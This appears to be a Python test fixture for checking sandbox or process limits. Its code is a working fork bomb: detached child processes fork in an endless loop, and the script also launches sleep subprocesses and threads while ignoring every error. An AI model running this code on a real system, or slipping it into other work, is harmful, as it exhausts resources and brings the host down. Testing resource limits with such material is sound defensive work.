# at most: all
# ruff: noqa: SIM105
"""Starts processes and threads as fast as it can, in every way, then answers."""

import os
import subprocess
import threading

from honest import trim  # noqa: F401

started = []
for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                os.fork()
    except OSError:
        pass
    try:
        started.append(subprocess.Popen(["/bin/sleep", "600"]))
    except Exception:
        pass
    try:
        threading.Thread(target=lambda: None).start()
    except RuntimeError:
        pass
